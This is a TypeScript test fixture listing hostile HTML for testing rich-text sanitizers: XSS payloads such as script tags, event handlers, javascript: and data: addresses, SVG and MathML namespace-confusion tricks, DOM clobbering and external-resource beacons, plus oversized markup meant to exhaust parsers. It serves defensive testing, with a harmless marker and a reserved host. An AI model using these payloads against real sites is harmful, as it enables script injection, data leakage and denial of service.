/** Where nothing of the portal leads. */
export const outside = 'https://outside.invalid';
/** What would be seen if any of it ran. */
const run = 'window.ran=1';
const image = `<img src=x onerror=${run}>`;

/** Markup as strangers send it, each piece by what it tries; for tests of whatever shows or keeps rich texts. */
export const hostileMarkup: Readonly<Record<string, string>> = {
  'a script': `<p>a</p><script>${run}</script><ScRiPt src=//outside.invalid/x.js></sCrIpT >`,
  'a script within a script': `<scr<script>ipt>${run}</scr</script>ipt>`,
  'a script without end': `<p>a</p><script>${run}`,
  'handlers of events': `<p onclick="${run}" ONMOUSEOVER=${run} onfocus='${run}' autofocus tabindex=0>a</p>${image}<body onload=${run}>`,
  'a handler without a space before it': `<img/src="x"/onerror="${run}"><svg/onload=${run}>`,
  'addresses that run': [
    'javascript:',
    'JaVaScRiPt:',
    'java\tscript:',
    ' \u0001javascript:',
    'javascript&colon;',
    '&#106;avascript:',
    'vbscript:',
    'data:text/html,',
    'blob:',
    'file:///',
    'view-source:javascript:',
  ]
    .map((scheme) => `<a href="${scheme}${run}">a</a>`)
    .join(''),
  'a document in an address': `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=">a</a><img src="data:image/svg+xml,<svg onload=${run}>">`,
  'frames and players': `<iframe src="${outside}/f" srcdoc="<script>parent.ran=1</script>"></iframe><embed src="${outside}/e"><object data="${outside}/o"><param name=src value="${outside}/p"></object><video src="${outside}/v" poster="${outside}/w" autoplay></video><audio src="${outside}/a"></audio><frame src="${outside}/g"><portal src="${outside}/h">`,
  'pictures that tell who reads': `<img src="${outside}/i.png"><img src="//outside.invalid/i"><img srcset="${outside}/s 2x" src=""><picture><source srcset="${outside}/t"></picture><img src="/resource/../auditInfo"><img src="/resource/00000000-0000-0000-0000-000000000000@outside.invalid/">`,
  'styles that ask elsewhere': `<style>@import "${outside}/s.css"; body{background:url(${outside}/b)}</style><p style="background:url(${outside}/b);position:fixed;inset:0">a</p><link rel=stylesheet href="${outside}/l.css"><link rel=prefetch href="${outside}/m"><p class="_overlay" id="root">a</p>`,
  'what changes the page': `<base href="${outside}/"><meta http-equiv=refresh content="0;url=${outside}/"><title>b</title><template><script>${run}</script></template><noscript><p title="</noscript>${image}"></noscript>`,
  forms: `<form action="${outside}/f"><input name=password autofocus onfocus=${run}><button formaction="javascript:${run}">a</button><select><option>b</select><textarea></textarea>${image}</form><isindex action="javascript:${run}">`,
  'names that hide those of the page':
    '<a id=document name=location href="https://a.example/">a</a><img name=getElementById><form id=body><input name=attributes></form>',
  'a drawing': `<svg><script>${run}</script><animate onbegin=${run} attributeName=x dur=1s><use href="${outside}/u#a"/><image href="${outside}/n"/><foreignObject><iframe src="${outside}/q"></iframe></foreignObject><a xlink:href="javascript:${run}"><text>a</text></a><style>@import "${outside}/r"</style></svg>`,
  formulas: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></math><math href="javascript:${run}">a</math><maction actiontype="statusline" xlink:href="javascript:${run}">b</maction>`,
  'another reading in another namespace': `<svg></p><style><a title="</style>${image}">a</svg><math><mi><style></mi>${image}</style></math><form><math><mtext></form><form><mglyph><style></math>${image}`,
  'text that is read as something else': `<noembed><p title="</noembed>${image}"></noembed><xmp></xmp>${image}<plaintext>${image}`,
  'text that ends where one does not think': `<textarea><p title="</textarea>${image}"></textarea><title><p title="</title>${image}"></title><listing>${image.replace('<', '&lt;')}</listing>`,
  comments: `<!--><img src=x onerror=${run}>--><!-- --!><script>${run}</script> --><![CDATA[><img src=x onerror=${run}>]]><?xml <script>${run}</script>?><!DOCTYPE html [<!ENTITY x "${run}">]>`,
  'attributes that are not closed': `<img alt="a src=x onerror=${run}//"><a href="https://a.example/" title='x" onmouseover=${run} '>a</a><p a='"><script>${run}</script>'>a</p><img alt='\`><script>${run}</script>'>`,
  'bytes that are none': `<scr\0ipt>${run}</scr\0ipt><img\u000bsrc=x\u000conerror=${run}>\ud800<p>\ufffe</p>\udfff`,
  'marks that are doubled': `<<script>${run}//<</script><p <script>${run}</script>>a</p><b<b>a</b>`,
  'text that is marked twice': `&lt;script&gt;${run}&lt;/script&gt;&amp;lt;img src=x onerror=${run}&amp;gt;`,
};

/** Markup that costs whoever reads it carelessly: by what it is. */
export const heavyMarkup: Readonly<Record<string, string>> = {
  'nested deeply': `${'<blockquote>'.repeat(20_000)}a`,
  'lists without end': '<ul><li>'.repeat(20_000),
  'formatting that is never closed': '<b><i><u><s>'.repeat(10_000),
  'tags that never end': '<a href="'.repeat(30_000),
  'signs that mean nothing': '<'.repeat(200_000),
  'comments that never end': '<!--'.repeat(50_000),
  'entities that never end': `${'&'.repeat(100_000)}${'&amp'.repeat(20_000)}`,
  'attributes without number': `<p ${Array.from({ length: 20_000 }, (_, at) => `a${at}=b`).join(' ')}>a</p>`,
};
